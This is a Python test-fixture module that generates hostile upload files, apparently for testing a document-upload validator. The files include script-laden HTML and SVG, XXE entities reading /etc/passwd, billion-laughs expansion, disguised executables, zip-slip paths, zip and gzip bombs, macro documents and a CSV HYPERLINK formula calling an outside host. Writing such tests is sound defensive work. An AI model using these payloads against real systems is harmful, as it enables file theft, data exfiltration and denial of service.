"""Everything else that is named as a paper, a picture or a table: pages, programs, archives, letters."""

import gzip
import io
import zipfile

from openpyxl import Workbook

from . import STEAL, told

WORDS = STEAL.decode()
MEGABYTE = 1024 * 1024


def archive(*entries, compression=zipfile.ZIP_DEFLATED):
    """A ZIP of these names and bytes."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression) as written:
        for name, raw in entries:
            written.writestr(name, raw)
    return target.getvalue()


def empty():
    yield "nothing", "p.pdf", b""
    yield "one byte", "p.pdf", b"%"
    yield "only spaces", "p.txt", b" \n\t" * 50
    yield "bytes of nothing", "p.png", bytes(5000)
    yield "any bytes", "p.jpg", bytes((place * 7919 + place // 3) % 256 for place in range(20_000))
    yield "too much of it", "p.pdf", b"%PDF-1.7" + bytes(20 * MEGABYTE)


def active():
    """Text that a browser or a shell would run."""
    script = f"<script>{WORDS}</script>"
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "a page of the web", "paper.pdf", f"<html><body onload={WORDS}>{script}</body></html>".encode()
    yield "a page of the web named twice", "photo.png.html", script.encode()
    yield "the declaration that breaks a parser", "p.html", b"<![8"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{WORDS}">{script}</svg>'
    yield "a drawing with a script", "p.svg", svg.encode()
    yield "a drawing named as a picture", "p.png", svg.encode()
    yield "a packed drawing", "p.svgz", gzip.compress(svg.encode(), mtime=0)
    yield "XML that fetches", "p.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield "XML that swells", "p.xml", f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l9;</a>'.encode()
    yield "PHP", "p.php.png", f"<?php {WORDS} ?>".encode()
    yield "a shell script", "p.sh", f"#!/bin/sh\n{WORDS}".encode()
    yield "RTF", "p.doc", rb"{\rtf1 {\object\objdata 4d5a}" + STEAL + b"}"
    yield "a letter", "p.eml", f"Subject: a\r\nContent-Type: text/html\r\n\r\n{script}".encode()


def programs():
    yield "a program for Windows", "invoice.pdf.exe", b"MZ\x90\x00" + STEAL + bytes(500)
    yield "a program for Linux", "paper.pdf", b"\x7fELF\x02\x01\x01" + STEAL + bytes(500)
    yield "a program for the web", "p.wasm", b"\0asm\x01\0\0\0" + STEAL
    yield "a class of Java", "p.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + STEAL
    yield "a shortcut", "p.lnk", b"L\0\0\0\x01\x14\x02\0" + STEAL + bytes(60)
    yield "a font", "p.ttf", b"\0\x01\0\0\0\x0f" + STEAL + bytes(100)
    yield "a film", "p.mp4", b"\0\0\0\x18ftypmp42" + STEAL + bytes(100)


def a_workbook(change):
    """A workbook whose sheet was changed by hand."""
    book, file = Workbook(), io.BytesIO()
    book.active.append(["city", "title", "language"])
    book.active.append(["mashhad", "Trees", "fa"])
    book.save(file)
    with zipfile.ZipFile(io.BytesIO(file.getvalue())) as before:
        parts = [(part.filename, before.read(part)) for part in before.infolist()]
    return archive(*((name, change(raw) if name.endswith("sheet1.xml") else raw) for name, raw in parts))


def packed():
    """Archives, workbooks and papers of office programs."""
    outside = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    swell = b'<!DOCTYPE a [<!ENTITY l0 "ha">' + laughs + b"]>"
    yield "an archive", "p.zip", archive(("page.html", STEAL))
    yield "an archive that swells", "p.xlsx", archive(("xl/workbook.xml", bytes(61 * MEGABYTE)))
    yield "an archive that climbs out", "p.zip", archive(("../../evil.txt", STEAL), ("/etc/evil.txt", STEAL))
    yield "an archive of nothing", "p.xlsx", archive()
    yield "half an archive", "p.xlsx", archive(("xl/workbook.xml", b"<a/>"))[:40]
    yield "a workbook that fetches", "p.xlsx", a_workbook(lambda raw: outside + raw.replace(b"Trees", b"&x;"))
    yield "a workbook that swells", "p.xlsx", a_workbook(lambda raw: swell + raw.replace(b"<v>1<", b"<v>&l9;<"))
    macros = ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + STEAL)
    yield "a paper with macros", "p.docm", archive(("word/document.xml", b"<a/>"), macros)
    yield "a workbook of the old kind", "p.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + STEAL + bytes(600)
    yield "a packed bomb", "p.gz", gzip.compress(bytes(20 * MEGABYTE), mtime=0)


def tables():
    """Tables that run, nest, or are none."""
    yield "a table of formulas", "p.csv", f'city,title\nmashhad,=HYPERLINK("http://e.org"&{WORDS})\n'.encode()
    yield "a list without end", "p.json", b"[" * 100_000
    yield "a list of other things", "p.json", b'[{"city": {"a": [NaN, 1e999]}}, 1, "steal()"]'
    yield "columns without end", "p.csv", (",".join(["city"] * 10_000) + "\n").encode()


def every():
    """All of them."""
    for made in (empty, active, programs, packed, tables):
        yield from told(made())
